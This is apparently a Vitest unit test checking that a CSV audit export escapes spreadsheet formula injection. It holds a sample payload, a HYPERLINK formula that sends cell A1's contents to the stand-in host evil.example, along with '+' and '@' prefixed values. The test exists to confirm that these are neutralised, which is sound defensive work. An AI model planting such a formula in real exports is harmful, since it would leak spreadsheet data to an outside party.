import { describe, expect, it } from 'vitest'
import type { AuditResponse } from '@claimcheck/shared'
import { auditToCsv } from './csv.ts'

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"open")'

describe('auditToCsv', () => {
  it('writes an unverified sub claim as text, never as a formula', () => {
    // auditToCsv reads the kind and the rows only.
    const audit = {
      kind: 'deleted-subjects',
      rows: [{ subject: HYPERLINK, tenant: '+tenant', issuer: '@iss', client: 'web, app', lastSuccess: 0, firstFailure: 0, lastFailure: 1_700_000_000_000, failures: 3, directory: null }],
    } as unknown as AuditResponse
    const [header, row] = auditToCsv(audit).split('\r\n')
    expect(header).toBe('subject,tenant,issuer,client,last_success,first_failure,last_failure,failures,directory,deleted_at')
    expect(row).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",'+tenant,'@iss,"web, app",,,2023-11-14T22:13:20.000Z,3,,`)
  })
})
